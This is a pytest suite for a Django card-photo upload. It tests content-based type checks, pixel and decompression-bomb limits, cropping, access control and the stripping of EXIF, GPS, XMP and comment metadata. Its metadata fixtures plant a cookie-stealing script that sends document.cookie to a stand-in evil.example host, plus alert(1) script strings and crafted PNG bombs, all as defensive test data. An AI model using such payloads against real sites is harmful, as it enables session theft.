"""The card photo: real type by content, size and bomb limits, crop to 358×441, size range, background."""

import io
import os
import struct
import time

import pytest
from django.conf import settings
from django.urls import reverse
from PIL import ExifTags, Image, ImageCms, ImageDraw

from sscard.applications import photos
from sscard.applications.models import Application, ApplicationDraft
from sscard.domain import photo_rules
from sscard.reference.models import ServiceSettings
from tests.applications.helpers import edit

from . import images
from .conftest import photo_file, step_url

pytestmark = pytest.mark.django_db


@pytest.fixture
def at_photo_step(logged_in, fill):
    fill(logged_in, until="photo")
    return logged_in


def post_photo(client, upload, **crop):
    return client.post(step_url("photo"), {"action": "continue", "photo": upload, **crop})


def error_page(response, message):
    assert response.status_code == 200
    page = response.content.decode()
    assert message in page, page[:2000]
    assert 'id="id_photo_errors"' in page and 'href="#id_photo"' in page
    draft = ApplicationDraft.objects.get()
    assert draft.photo == "" and draft.step == "photo"
    return page


def test_the_stored_photo_is_a_358_by_441_jpeg_within_the_size_range(at_photo_step):
    assert post_photo(at_photo_step, photo_file()).status_code == 302
    draft = ApplicationDraft.objects.get()
    data = photos.read(draft.photo)
    image = Image.open(io.BytesIO(data))
    assert image.format == "JPEG" and image.size == (358, 441) and image.mode == "RGB"
    assert 14 * 1024 <= len(data) <= 40 * 1024
    assert draft.photo_original.endswith(".jpg")


def stored_card_photo():
    """The draft's stored card photo, opened (after checking its name was set)."""
    draft = ApplicationDraft.objects.get()
    assert draft.photo
    return Image.open(io.BytesIO(photos.read(draft.photo)))


def test_png_is_accepted(at_photo_step):
    assert post_photo(at_photo_step, photo_file(images.portrait(fmt="PNG"), "me.png", "image/png")).status_code == 302
    card = stored_card_photo()
    assert card.format == "JPEG" and card.size == (358, 441) and card.mode == "RGB"


def test_the_type_is_checked_by_content_not_by_name(at_photo_step):
    fake = photo_file(b"%PDF-1.4 not a picture" * 100, "photo.jpg", "image/jpeg")
    error_page(post_photo(at_photo_step, fake), "The file is not a JPEG or PNG picture")


def test_a_gif_is_refused_even_named_jpg(at_photo_step):
    out = io.BytesIO()
    Image.new("RGB", (400, 500), "white").save(out, format="GIF")
    error_page(post_photo(at_photo_step, photo_file(out.getvalue(), "me.jpg")), "not a JPEG or PNG")


def test_a_real_jpeg_named_png_is_accepted(at_photo_step):
    assert post_photo(at_photo_step, photo_file(images.portrait(), "me.png", "image/png")).status_code == 302
    card = stored_card_photo()
    assert card.format == "JPEG" and card.size == (358, 441)


def test_files_over_the_limit_are_refused(at_photo_step):
    edit(ServiceSettings.load(), upload_max_mb=1)
    big = images.portrait() + b"\0" * (1024 * 1024)
    error_page(post_photo(at_photo_step, photo_file(big)), "The file is larger than 1 MB.")


def test_the_default_upload_limit_is_10_mb():
    assert ServiceSettings.load().upload_max_mb == 10
    big = b"\xff\xd8" + b"\0" * (10 * 1024 * 1024)
    with pytest.raises(photos.PhotoError) as caught:
        photos.check_upload(big, max_mb=10)
    assert caught.value.messages == (photos.MSG_TOO_BIG,)


@pytest.fixture
def no_decoding(monkeypatch):
    """Fails the test if any picture's pixels are decoded."""
    from PIL import ImageFile

    def load(self):
        raise AssertionError(f"the pixels of a {self.size[0]}×{self.size[1]} picture were decoded")

    monkeypatch.setattr(ImageFile.ImageFile, "load", load)


def test_decompression_bombs_are_refused_before_decoding(at_photo_step, no_decoding):
    bomb = images.huge_png_header()  # 20000×20000: beyond Pillow's own limit, refused as the header is read
    assert len(bomb) < 200_000
    error_page(post_photo(at_photo_step, photo_file(bomb, "bomb.png", "image/png")),
               "too many pixels to be processed safely")


def test_a_small_png_of_6300_by_6300_pixels_is_refused_from_its_header(at_photo_step, no_decoding):
    bomb = images.png_bomb(6300, 6300)  # a complete, valid PNG: ~40 million pixels in a few kilobytes
    assert len(bomb) < 52 * 1024 and Image.open(io.BytesIO(bomb)).size == (6300, 6300)
    error_page(post_photo(at_photo_step, photo_file(bomb, "bomb.png", "image/png")),
               "The picture is too large: a PNG photo may have at most 12 million pixels. "
               "Please upload a smaller copy of the photo.")


def test_the_pixel_limit_message_is_translated(at_photo_step, no_decoding):
    at_photo_step.cookies["django_language"] = "zh-hans"
    page = post_photo(at_photo_step, photo_file(images.png_bomb(6300, 6300), "bomb.png", "image/png"))
    assert "图片过大：PNG 照片最多 12 百万像素。请上传较小的照片副本。" in page.content.decode()


# Pixel limits read from the header, by format (written by hand from the rule: JPEG 24 million, PNG 12 million).
@pytest.mark.parametrize(("fmt", "width", "height", "refused"), [
    ("JPEG", 6000, 4000, False),  # a 24-megapixel camera photo
    ("JPEG", 6001, 4000, True),
    ("JPEG", 7000, 5000, True),
    ("PNG", 4000, 3000, False),  # 12 million
    ("PNG", 4000, 3001, True),
    ("PNG", 6300, 6300, True),
])
def test_the_pixel_limit_is_checked_from_the_header_without_decoding(request, fmt, width, height, refused):
    if refused or fmt == "JPEG":
        # Refused from the header, before any pixel is decoded. (A PNG that passes may be decoded by
        # check_upload: its EXIF orientation may follow the pixels; the limit bounds that decoding.)
        request.getfixturevalue("no_decoding")
    if fmt == "JPEG":
        data = images.jpeg_claiming(width, height)
    else:
        data = images.huge_png_header(width, height) if refused else images.png_bomb(width, height)
    if refused:
        with pytest.raises(photos.PhotoError) as caught:
            photos.check_upload(data, max_mb=10)
        assert caught.value.messages == (photo_rules.MSG_TOO_MANY_PIXELS,)
        assert caught.value.params == {"format": fmt, "megapixels": 24 if fmt == "JPEG" else 12}
    else:
        checked = photos.check_upload(data, max_mb=10)
        assert (checked.format, checked.width, checked.height) == (fmt, width, height)


def test_a_truncated_picture_is_refused(at_photo_step):
    data = images.portrait()
    error_page(post_photo(at_photo_step, photo_file(data[: len(data) // 2])), "could not be read")


def test_a_too_small_picture_is_refused(at_photo_step):
    out = io.BytesIO()
    Image.new("RGB", (100, 120), "white").save(out, format="JPEG")
    error_page(post_photo(at_photo_step, photo_file(out.getvalue())), "at least 179×220 pixels")


def test_a_dark_background_is_refused_with_the_reason(at_photo_step):
    error_page(post_photo(at_photo_step, photo_file(images.dark_background_portrait())),
               "The background at the edges of the photo is too dark")


def test_a_busy_background_is_refused_with_the_reason(at_photo_step):
    error_page(post_photo(at_photo_step, photo_file(images.portrait(busy=True))), "is not plain")


def test_a_coloured_background_is_refused_with_the_reason(at_photo_step):
    error_page(post_photo(at_photo_step, photo_file(images.portrait(background=(90, 140, 235)))),
               "strongly coloured")


LEFT, RIGHT, MARK = (250, 250, 250), (200, 215, 235), (20, 20, 20)


def _close(pixel, colour, tolerance=8):
    return all(abs(a - b) <= tolerance for a, b in zip(pixel, colour, strict=True))


@pytest.mark.parametrize(("crop_x", "inside", "outside"), [(20, LEFT, RIGHT), (420, RIGHT, LEFT)])
def test_the_crop_from_the_page_is_the_stored_card_photo(at_photo_step, crop_x, inside, outside):
    # 800×600: the left half one light colour, the right half another, and a dark 20×20 mark 100 px right of and
    # 200 px below each crop's corner. A 358×441 crop is stored at the same scale: the mark lands at (100, 200).
    edit(ServiceSettings.load(), photo_min_kb=1)  # plain colours compress below the usual 14 KB
    picture = images.two_colour_picture(800, 600, left=LEFT, right=RIGHT)
    for x in (20, 420):
        picture.paste(MARK, (x + 100, 80 + 200, x + 120, 80 + 220))
    response = post_photo(at_photo_step, photo_file(images.jpeg_bytes(picture)), crop_x=str(crop_x), crop_y="80",
                          crop_w="358", crop_h="441")
    assert response.status_code == 302
    card = stored_card_photo().convert("RGB")
    assert card.size == (358, 441)
    for point in [(5, 5), (352, 5), (5, 435), (352, 435), (179, 100), (300, 400)]:
        assert _close(card.getpixel(point), inside), (point, card.getpixel(point))
        assert not _close(card.getpixel(point), outside)
    assert _close(card.getpixel((110, 210)), MARK)
    assert _close(card.getpixel((90, 210)), inside) and _close(card.getpixel((130, 210)), inside)


def test_a_transparent_png_is_cropped_and_put_on_white():
    # 800×600 RGBA: transparent, with an opaque light-blue block in the crop's top-left quarter.
    picture = Image.new("RGBA", (800, 600), (0, 0, 0, 0))
    picture.paste((200, 215, 235, 255), (300, 100, 300 + 179, 100 + 220))
    out = io.BytesIO()
    picture.save(out, format="PNG")
    card = photos.card_image(photos.check_upload(out.getvalue(), max_mb=10),
                             {"crop_x": "300", "crop_y": "100", "crop_w": "358", "crop_h": "441"})
    assert card.mode == "RGB" and card.size == (358, 441)
    assert card.getpixel((80, 100)) == (200, 215, 235)  # inside the block
    assert card.getpixel((270, 100)) == (255, 255, 255) and card.getpixel((80, 330)) == (255, 255, 255)


@pytest.mark.parametrize("crop", [
    {"crop_x": "500", "crop_y": "0", "crop_w": "358", "crop_h": "441"},  # outside the picture
    {"crop_x": "0", "crop_y": "0", "crop_w": "400", "crop_h": "300"},  # wrong proportions
    {"crop_x": "-5", "crop_y": "0", "crop_w": "358", "crop_h": "441"},
])
def test_a_bad_crop_is_refused(at_photo_step, crop):
    error_page(post_photo(at_photo_step, photo_file(images.portrait()), **crop), "Please crop again")


def test_without_javascript_the_photo_is_centre_cropped():
    assert photo_rules.centre_crop_box(600, 800) == (0, 30, 600, 739)
    x, y, w, h = photo_rules.centre_crop_box(4000, 3000)
    assert h == 3000 and abs(w / h - 358 / 441) < 0.01 and x == (4000 - w) // 2


def test_jpeg_quality_adapts_to_the_configured_range():
    image = Image.open(io.BytesIO(images.portrait(width=358, height=441, seed=4))).convert("RGB")
    noisy = Image.blend(image, Image.effect_noise((358, 441), 60).convert("RGB"), 0.3)
    data = photos.encode_in_range(noisy, min_kb=14, max_kb=40)
    assert 14 * 1024 <= len(data) <= 40 * 1024
    data = photos.encode_in_range(noisy, min_kb=10, max_kb=25)
    assert 10 * 1024 <= len(data) <= 25 * 1024


def test_originals_are_private_files_outside_static_and_not_served_by_url(at_photo_step, private_media):
    post_photo(at_photo_step, photo_file())
    draft = ApplicationDraft.objects.get()
    path = private_media / draft.photo_original
    assert path.exists()
    assert str(settings.STATIC_ROOT) not in str(path)
    assert at_photo_step.get("/media/" + draft.photo_original).status_code == 404
    assert at_photo_step.get("/" + draft.photo_original).status_code == 404


def test_the_draft_photo_is_only_shown_to_its_owner(at_photo_step, client, make_citizen):
    post_photo(at_photo_step, photo_file())
    response = at_photo_step.get(reverse("applications:draft_photo"))
    assert response.status_code == 200 and response["Content-Type"] == "image/jpeg"
    assert response.content == photos.read(ApplicationDraft.objects.get().photo)
    assert "no-store" in response["Cache-Control"]
    from django.test import Client

    stranger = Client()
    stranger.force_login(make_citizen())
    assert stranger.get(reverse("applications:draft_photo")).status_code == 404
    assert Client().get(reverse("applications:draft_photo")).status_code == 302


def test_the_submitted_photo_is_only_shown_to_its_owner(logged_in, fill, submit, make_citizen):
    from django.test import Client

    fill(logged_in)
    submit(logged_in)
    application = Application.objects.get()
    url = reverse("applications:photo", args=[application.office_code])
    response = logged_in.get(url)
    assert response.status_code == 200 and response.content == photos.read(application.photo)
    stranger = Client()
    stranger.force_login(make_citizen())
    assert stranger.get(url).status_code == 404


def test_replacing_the_photo_keeps_one(at_photo_step, private_media, django_capture_on_commit_callbacks):
    post_photo(at_photo_step, photo_file())
    first = ApplicationDraft.objects.get()
    with django_capture_on_commit_callbacks(execute=True):  # the replaced files are deleted once committed
        at_photo_step.post(step_url("photo"), {"action": "preview", "photo": photo_file(images.portrait(seed=9))})
    second = ApplicationDraft.objects.get()
    assert first.photo != second.photo and first.photo_original != second.photo_original
    # The replaced photo and original are deleted; the new ones are stored.
    assert not (private_media / first.photo).exists() and not (private_media / first.photo_original).exists()
    assert (private_media / second.photo).exists() and (private_media / second.photo_original).exists()
    # Continuing without a new file keeps the photo.
    assert at_photo_step.post(step_url("photo"), {"action": "continue"}).status_code == 302
    assert ApplicationDraft.objects.get().photo == second.photo


# --- Large JPEGs are decoded at a reduced scale -------------------------------------------------------------

def _asymmetric_picture(width, height):
    """A picture that looks different mirrored or turned: a wrong mapping of the crop shows."""
    image = Image.linear_gradient("L").resize((width, height)).convert("RGB")
    draw = ImageDraw.Draw(image)
    draw.rectangle([width // 10, height // 8, width // 3, height // 3], fill=(220, 30, 30))
    draw.ellipse([width // 2, height // 2, width * 9 // 10, height * 7 // 8], fill=(20, 60, 200))
    return image


# The stored pixels that, turned by EXIF orientation n, give the upright picture.
_UNDO = {1: None, 2: Image.Transpose.FLIP_LEFT_RIGHT, 3: Image.Transpose.ROTATE_180,
         4: Image.Transpose.FLIP_TOP_BOTTOM, 5: Image.Transpose.TRANSPOSE, 6: Image.Transpose.ROTATE_90,
         7: Image.Transpose.TRANSVERSE, 8: Image.Transpose.ROTATE_270}


def _jpeg_with_orientation(upright, orientation):
    stored = upright if _UNDO[orientation] is None else upright.transpose(_UNDO[orientation])
    exif = Image.Exif()
    exif[0x0112] = orientation
    out = io.BytesIO()
    stored.save(out, format="JPEG", quality=95, exif=exif.tobytes())
    return out.getvalue()


def _reference_card(data, box):
    """The card as made from every decoded pixel: upright, cropped, scaled."""
    from PIL import ImageOps

    image = ImageOps.exif_transpose(Image.open(io.BytesIO(data)).convert("RGB"))
    x, y, w, h = box
    return image.crop((x, y, x + w, y + h)).resize((358, 441), Image.LANCZOS)


def _mean_difference(a, b):
    from PIL import ImageChops, ImageStat

    return sum(ImageStat.Stat(ImageChops.difference(a, b)).mean) / 3


@pytest.mark.parametrize("orientation", range(1, 9))
def test_a_large_jpeg_is_decoded_at_a_reduced_scale_with_the_same_crop_in_every_orientation(orientation):
    upright = _asymmetric_picture(3001, 3999)  # sizes not divisible by the scale: partial last blocks
    data = _jpeg_with_orientation(upright, orientation)
    checked = photos.check_upload(data, max_mb=10)
    assert (checked.width, checked.height) == (3001, 3999)
    crop = {"crop_x": "150", "crop_y": "420", "crop_w": "1790", "crop_h": "2205"}  # off-centre, 5× the card
    image, _box = photos._decode_for_card(photos.check_upload(data, max_mb=10), (150, 420, 1790, 2205))
    assert image.size == (751, 1000)  # decoded at 1/4 of each side (the crop keeps 447×551 pixels)
    card = photos.card_image(checked, crop)
    assert card.size == (358, 441) and card.mode == "RGB"
    # About 0.09 (of 255) from the reference; moving the crop by 5 of its 1790 pixels would give 0.25.
    assert _mean_difference(card, _reference_card(data, (150, 420, 1790, 2205))) < 0.2


def test_a_crop_smaller_than_twice_the_card_is_decoded_in_full():
    data = _jpeg_with_orientation(_asymmetric_picture(1600, 2000), 6)
    checked = photos.check_upload(data, max_mb=10)
    image, box = photos._decode_for_card(checked, (100, 100, 600, 739))
    assert image.size == (1600, 2000) and box == (100, 100, 700, 839)


def test_a_damaged_large_jpeg_is_refused_at_reduced_scale_too(at_photo_step):
    data = _jpeg_with_orientation(_asymmetric_picture(2400, 3000), 1)
    error_page(post_photo(at_photo_step, photo_file(data[: len(data) * 2 // 3])), "could not be read")


# --- Nothing of the upload but its pixels is stored ---------------------------------------------------------

SECRETS = [b"<script", b"SpyCam", b"Exif\x00\x00", b"ICC_PROFILE", b"xmpmeta", b"Photoshop", b"Wuhan-secret"]
# Segments a JPEG made from pixels alone has before its image data: JFIF header, quantisation and Huffman tables,
# frame header, restart interval, start of scan. No APP1–APP15 (EXIF, XMP, ICC, Photoshop...), no COM.
PIXEL_SEGMENTS = {0xE0, 0xDB, 0xC4, 0xC0, 0xC1, 0xC2, 0xDD, 0xDA}


def _exif_with_gps_and_camera(orientation=1):
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "SpyCam"
    exif[ExifTags.Base.Model] = "SpyCam Model 7"
    exif[ExifTags.Base.Orientation] = orientation
    exif[ExifTags.IFD.GPSInfo] = {ExifTags.GPS.GPSLatitudeRef: "N", ExifTags.GPS.GPSLatitude: (30.0, 35.0, 12.0),
                                  ExifTags.GPS.GPSLongitudeRef: "E", ExifTags.GPS.GPSLongitude: (114.0, 18.0, 5.0)}
    return exif


def _jpeg_with_metadata(*, orientation=1, icc_profile=None):
    """A portrait carrying EXIF (GPS position, camera), a COM segment with HTML, XMP, an ICC profile and a
    Photoshop APP13 segment. With orientation 6 the stored pixels are turned: upright it is 600×800."""
    upright = Image.open(io.BytesIO(images.portrait())).convert("RGB")
    stored = upright.transpose(Image.Transpose.ROTATE_90) if orientation == 6 else upright
    if icc_profile is None:
        icc_profile = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    app13 = b"Photoshop 3.0\x00Wuhan-secret"
    return images.jpeg_bytes(
        stored, exif=_exif_with_gps_and_camera(orientation).tobytes(), icc_profile=icc_profile,
        comment=b"<script>fetch('https://evil.example/'+document.cookie)</script>",
        xmp=b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:Description City="Wuhan-secret"/></x:xmpmeta>',
        extra=b"\xff\xed" + struct.pack(">H", len(app13) + 2) + app13)


def assert_pixels_only(data):
    """Stored JPEG bytes hold no metadata: read by Pillow, by hand segment by segment, and as raw bytes."""
    image = Image.open(io.BytesIO(data))
    assert image.format == "JPEG"
    assert not {"exif", "comment", "icc_profile", "xmp", "photoshop"} & set(image.info), image.info.keys()
    assert len(image.getexif()) == 0
    segments = images.jpeg_segments(data)
    assert {marker for marker, _payload in segments} <= PIXEL_SEGMENTS, [hex(m) for m, _p in segments]
    assert all(payload.startswith(b"JFIF\x00") for marker, payload in segments if marker == 0xE0)
    for secret in SECRETS:
        assert secret not in data, secret


def test_an_upload_with_metadata_really_carries_it():
    """The upload of the next tests: every kind of metadata is in it (so their checks are not vacuous)."""
    data = _jpeg_with_metadata()
    image = Image.open(io.BytesIO(data))
    assert image.getexif()[ExifTags.Base.Make] == "SpyCam"
    assert image.getexif().get_ifd(ExifTags.IFD.GPSInfo)[ExifTags.GPS.GPSLatitude] == (30.0, 35.0, 12.0)
    assert image.info["comment"].startswith(b"<script>") and "icc_profile" in image.info and "xmp" in image.info
    assert {0xE1, 0xE2, 0xED, 0xFE} <= {marker for marker, _payload in images.jpeg_segments(data)}
    assert all(secret in data for secret in SECRETS)


def test_the_stored_photo_and_original_keep_no_exif_gps_comment_or_other_metadata(at_photo_step, private_media):
    assert post_photo(at_photo_step, photo_file(_jpeg_with_metadata())).status_code == 302
    draft = ApplicationDraft.objects.get()
    assert_pixels_only(photos.read(draft.photo))
    assert_pixels_only((private_media / draft.photo_original).read_bytes())


def test_the_stored_original_is_upright_once_its_orientation_tag_is_gone(at_photo_step):
    assert post_photo(at_photo_step, photo_file(_jpeg_with_metadata(orientation=6))).status_code == 302
    draft = ApplicationDraft.objects.get()
    original = photos.read(draft.photo_original)
    assert_pixels_only(original)
    assert Image.open(io.BytesIO(original)).size == (600, 800)  # stored turned (800×600), shown upright
    assert stored_card_photo().size == (358, 441)


def test_a_png_with_text_exif_and_xmp_chunks_is_stored_without_them(at_photo_step):
    from PIL import PngImagePlugin

    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "<script>alert(1)</script>")
    info.add_itxt("XML:com.adobe.xmp", '<x:xmpmeta xmlns:x="adobe:ns:meta/">Wuhan-secret</x:xmpmeta>')
    out = io.BytesIO()
    Image.open(io.BytesIO(images.portrait())).save(out, format="PNG", pnginfo=info,
                                                   exif=_exif_with_gps_and_camera().tobytes())
    upload = out.getvalue()
    assert b"<script" in upload and b"SpyCam" in upload
    assert post_photo(at_photo_step, photo_file(upload, "me.png", "image/png")).status_code == 302
    draft = ApplicationDraft.objects.get()
    assert_pixels_only(photos.read(draft.photo))
    assert_pixels_only(photos.read(draft.photo_original))


def test_an_unusable_colour_profile_is_ignored_and_not_stored(at_photo_step):
    upload = _jpeg_with_metadata(icc_profile=b"not a colour profile" * 8)
    assert post_photo(at_photo_step, photo_file(upload)).status_code == 302
    draft = ApplicationDraft.objects.get()
    assert_pixels_only(photos.read(draft.photo))
    assert_pixels_only(photos.read(draft.photo_original))


def test_pixels_described_by_an_srgb_profile_keep_their_colours():
    picture = images.two_colour_picture(800, 600)
    plain = photos.card_image(photos.check_upload(images.jpeg_bytes(picture), max_mb=10), {})
    srgb = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    profiled = photos.card_image(photos.check_upload(images.jpeg_bytes(picture, icc_profile=srgb), max_mb=10), {})
    assert _mean_difference(plain, profiled) < 1.5  # converting sRGB to sRGB changes nothing visible


@pytest.mark.parametrize(("fmt", "size", "kept"), [
    ("PNG", (3000, 4000), (1500, 2000)),  # reduced by a whole factor to at most 2048 a side
    ("PNG", (2048, 1536), (2048, 1536)),
    ("JPEG", (3000, 4000), (375, 500)),  # decoded at 1/8 for the card (the centred crop is 8× the card's size)
    ("JPEG", (1000, 1200), (500, 600)),  # the centred crop (974×1200) keeps the card's size at 1/2
    ("JPEG", (700, 900), (700, 900)),  # at 1/2 the crop (700×862) would be smaller than the card: in full
])
def test_the_kept_original_is_the_decoded_picture_at_most_2048_pixels_a_side(fmt, size, kept):
    out = io.BytesIO()
    images.two_colour_picture(*size).save(out, format=fmt)
    prepared = photos.prepare(photos.check_upload(out.getvalue(), max_mb=10), {}, min_kb=1, max_kb=40)
    original = Image.open(io.BytesIO(prepared.original))
    assert original.format == "JPEG" and original.size == kept
    assert original.convert("RGB").getpixel((kept[0] // 4, kept[1] // 2))[2] >= 245  # the left half: (250, 250, 250)
    assert original.convert("RGB").getpixel((kept[0] * 3 // 4, kept[1] // 2))[0] <= 205  # the right: (200, 215, 235)


# --- How long uploaded originals are kept (docs/photos.md) --------------------------------------------------

def _originals(private_media):
    folder = private_media / photos.ORIGINALS_DIR
    return sorted(p.name for p in folder.iterdir()) if folder.exists() else []


def _age(private_media, name, hours):
    path = private_media / name
    then = time.time() - hours * 3600
    os.utime(path, (then, then))


@pytest.mark.parametrize(("language", "sentence"), [
    ("en", "Only the picture is kept: the location, camera and other details stored in the file are removed. "
           "The uploaded file itself is deleted when you submit the application, and at the latest 24 hours after "
           "the upload."),
    ("zh-hans", "只保留照片画面：文件中的位置、相机等信息会被删除。您上传的原始文件在提交申请时删除，最迟在上传 24 小时后删除。"),
    ("es", "El archivo subido se elimina cuando usted presenta la solicitud y, a más tardar, 24 horas después de "
           "subirlo."),
])
def test_the_photo_step_says_what_is_kept_and_for_how_long(at_photo_step, language, sentence):
    at_photo_step.cookies["django_language"] = language
    assert sentence in at_photo_step.get(step_url("photo")).content.decode()


def test_submitting_deletes_the_uploaded_original(logged_in, fill, submit, private_media,
                                                  django_capture_on_commit_callbacks):
    fill(logged_in)
    original = ApplicationDraft.objects.get().photo_original
    assert (private_media / original).exists()
    with django_capture_on_commit_callbacks(execute=True):
        assert submit(logged_in).status_code == 302
    application = Application.objects.get()
    assert application.photo_original == ""
    assert not (private_media / original).exists() and _originals(private_media) == []
    assert (private_media / application.photo).exists()  # the card photo is part of the application


def test_originals_older_than_a_day_and_those_of_applications_are_purged(
        logged_in, fill, submit, make_citizen, private_media, django_capture_on_commit_callbacks):
    from django.test import Client

    from sscard.applications import tasks
    from sscard.audit.models import AuditEvent

    # An application submitted before originals were deleted at submission, still naming one.
    fill(logged_in)
    with django_capture_on_commit_callbacks(execute=True):
        submit(logged_in)
    legacy = photos.store_original(images.portrait())
    Application.objects.update(photo_original=legacy)
    # Two drafts: one photo uploaded 25 hours ago, one 23 hours ago.
    drafts = {}
    for hours in (25, 23):
        c = Client(HTTP_ACCEPT_LANGUAGE="en")
        c.force_login(make_citizen())
        fill(c)
        drafts[hours] = ApplicationDraft.objects.get(applicant_id=int(c.session["_auth_user_id"]))
        _age(private_media, drafts[hours].photo_original, hours)
    # A file no row names (a request that failed after storing it), two days old.
    orphan = photos.store_original(images.portrait())
    _age(private_media, orphan, 48)

    with django_capture_on_commit_callbacks(execute=True):
        assert tasks.purge_photo_originals() == 3
    old, recent = (ApplicationDraft.objects.get(pk=drafts[h].pk) for h in (25, 23))
    assert old.photo_original == "" and old.photo == drafts[25].photo  # the card photo stays
    assert recent.photo_original == drafts[23].photo_original
    assert Application.objects.get().photo_original == ""
    assert _originals(private_media) == [recent.photo_original.rsplit("/", 1)[1]]
    assert (private_media / old.photo).exists() and (private_media / Application.objects.get().photo).exists()
    event = AuditEvent.objects.get(event_type="card_application.photo_originals_purged")
    assert event.data == {"files": 3, "drafts": 1, "applications": 1} and event.actor_label == "system"
    # Idempotent: nothing more to delete, nothing recorded.
    with django_capture_on_commit_callbacks(execute=True):
        assert tasks.purge_photo_originals() == 0
    assert AuditEvent.objects.filter(event_type="card_application.photo_originals_purged").count() == 1


def test_beat_runs_the_purge_every_hour():
    from sscard.applications.tasks import purge_photo_originals
    from sscard.celery import app as celery_app

    assert any(entry["task"] == "sscard.applications.purge_photo_originals" and entry["schedule"] == 3600
               for entry in celery_app.conf.beat_schedule.values())
    assert purge_photo_originals.delay().get() == 0  # registered under that name, runs (eagerly here)


def test_card_photos_stored_with_a_comment_are_cleaned_once(logged_in, fill, submit, make_citizen, private_media,
                                                            django_capture_on_commit_callbacks):
    """Card photos stored before only pixels were stored kept the upload's comment (it reached the manufacturer's
    ZIP): `manage.py clean_photo_metadata` re-encodes them; clean ones are left alone."""
    from django.core.management import call_command
    from django.test import Client

    from sscard.audit.models import AuditEvent

    def old_card_photo(seed):  # what the earlier code stored: the card photo with the upload's comment
        card = Image.open(io.BytesIO(images.portrait(width=358, height=441, seed=seed)))
        return photos.store_card_photo(images.jpeg_bytes(card, comment=b"<script>alert(1)</script>"))

    fill(logged_in)
    submit(logged_in)
    other = Client(HTTP_ACCEPT_LANGUAGE="en")
    other.force_login(make_citizen())
    fill(other)
    dirty_application, dirty_draft, orphan = old_card_photo(1), old_card_photo(2), old_card_photo(3)
    Application.objects.update(photo=dirty_application)
    ApplicationDraft.objects.update(photo=dirty_draft)
    clean = photos.store_card_photo(images.jpeg_bytes(Image.new("RGB", (358, 441), "white")))
    clean_bytes = photos.read(clean)
    assert b"<script" in photos.read(dirty_application)

    with django_capture_on_commit_callbacks(execute=True):
        call_command("clean_photo_metadata", stdout=io.StringIO())
    application, draft = Application.objects.get(), ApplicationDraft.objects.get()
    assert application.photo != dirty_application and draft.photo != dirty_draft
    for name in (application.photo, draft.photo):
        data = photos.read(name)
        assert_pixels_only(data)
        assert Image.open(io.BytesIO(data)).size == (358, 441) and 14 * 1024 <= len(data) <= 40 * 1024
    for name in (dirty_application, dirty_draft, orphan):
        assert not (private_media / name).exists()
    assert photos.read(clean) == clean_bytes
    assert logged_in.get(reverse("applications:photo", args=[application.office_code])).content == \
        photos.read(application.photo)
    assert AuditEvent.objects.get(event_type="card_application.photo_metadata_removed").data == {"photos": 3}
    out = io.StringIO()
    call_command("clean_photo_metadata", stdout=out)
    assert out.getvalue().strip() == "card photos cleaned: 0"
